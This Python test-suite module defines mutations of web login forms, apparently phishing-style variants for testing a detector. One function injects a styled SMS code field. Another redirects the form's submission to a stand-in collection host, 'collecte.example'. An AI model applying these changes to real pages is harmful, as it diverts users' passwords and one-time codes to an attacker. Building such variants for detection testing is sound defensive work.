"""Changes of the form: where it goes and what it asks for."""

from __future__ import annotations

import re
from copy import deepcopy

from tests.pages.suite.designs import Design
from tests.pages.suite.markup import Element, read_html, walk_texts, write_html
from tests.pages.suite.mutations.kit import Mutation, change_tree, say
from tests.pages.suite.mutations.text import change_words
from tests.pages.suite.page import WebPage

CONTROLS = frozenset({"input", "button", "select"})


def is_control(element: Element) -> bool:
    """Tell whether an element is a field or button that is seen."""
    return element.tag in CONTROLS and element.attributes.get("type") != "hidden"


def find_block(root: Element, control: Element) -> tuple[Element, int, int]:
    """Return the holder, first and last place of the nodes that belong to one field."""
    block, holder = control, root.find_parent(control)
    while sum(is_control(element) for element in holder.walk()) == 1:
        block, holder = holder, root.find_parent(holder)
    last = next(number for number, child in enumerate(holder.children) if child is block)
    first = last
    before = [n for n, child in enumerate(holder.children[:last]) if isinstance(child, Element)]
    if (
        block is control
        and before
        and isinstance(label := holder.children[before[-1]], Element)
        and label.tag == "label"
    ):
        first = before[-1]
    return holder, first, last


def add_field(root: Element, *, kind: str, name: str, label: str, is_first: bool) -> None:
    """Put a field more before the first field, or after the last."""
    typed = [
        e
        for e in root.walk()
        if e.tag == "input" and e.attributes.get("type") not in {"hidden", "submit", "checkbox"}
    ]
    holder, first, last = find_block(root, typed[0 if is_first else -1])
    copied = Element("copied", {}, deepcopy(holder.children[first : last + 1]))
    texts = list(walk_texts(copied))
    for number, (within, place, _) in enumerate(texts):
        within.children[place] = "" if number else f"{label} "
    for element in copied.walk():
        if element.tag == "input":
            shown: dict[str, str] = (
                {"placeholder": label} if not texts or "placeholder" in element.attributes else {}
            )
            kept: dict[str, str] = {
                key: element.attributes[key] for key in ("class", "style") if key in element.attributes
            }
            element.attributes = {"type": kind, "name": name, "id": name, **kept, **shown}
        elif "for" in element.attributes:
            element.attributes["for"] = name
    place = first if is_first else last + 1
    holder.children[place:place] = copied.children


def ask_code(page: WebPage, design: Design, picture: bytes) -> WebPage:
    """Return the page with a field for the code sent by message."""
    label = say(design, "Code reçu par SMS", "Code sent by text")

    def change(root: Element) -> None:
        kind = "email" if design.name == "two-step" else "password"
        add_field(root, kind=kind, name="otp", label=label, is_first=False)
        field = root.find("otp")
        field.attributes |= {
            "type": "tel",
            "inputmode": "numeric",
            "maxlength": "6",
            "autocomplete": "one-time-code",
        }
        root.find("head").children.append(Element("style", {}, [copy_rules(page)]))

    return change_tree(page, change)


def copy_rules(page: WebPage) -> str:
    """Return rules by which new fields look like the others, whose style asks for a type."""
    sheets = [r.content.decode() for r in page.resources.values() if r.kind == "text/css"]
    root = read_html(page.html)
    sheets += [str(element.children[0]) for element in root.walk() if element.tag == "style"]
    rules = re.findall(r"([^{}]*\binput\[type=password\])(\{[^{}]*\})", "".join(sheets))
    return "".join(
        selector.split(",")[-1].replace("[type=password]", ":is([type=tel],[type=number])") + rule
        for selector, rule in rules
    )


def age(page: WebPage, design: Design, picture: bytes) -> WebPage:
    """Return the page as it was five years ago: other year, slogan and foot, one field more."""
    own = design.identity
    slogan = say(design, "Agir ensemble, ici et maintenant", "Acting together, here and now")
    foot = say(design, "Site réalisé par l’équipe technique, 2021", "Site made by the technical team, 2021")

    def put(words: str) -> str:
        return words.replace(own.slogan, slogan).replace("2026", "2021").replace(own.help, foot)

    root = read_html(page.html)
    change_words(root, put)
    add_field(
        root,
        kind="number",
        name="section",
        label=say(design, "Numéro de section", "Branch number"),
        is_first=True,
    )
    root.find("head").children.append(Element("style", {}, [copy_rules(page)]))
    return WebPage(write_html(root), page.resources)


def post_elsewhere(page: WebPage, design: Design, picture: bytes) -> WebPage:
    """Return the page with a form that sends what is typed to somebody else."""

    def change(root: Element) -> None:
        root.find("form").attributes["action"] = "https://collecte.example/r.php"

    return change_tree(page, change)


MUTATIONS = (
    Mutation("code-asked", "form", ask_code),
    Mutation("old-version", "form", age),
    Mutation("posts-elsewhere", "form", post_elsewhere),
)
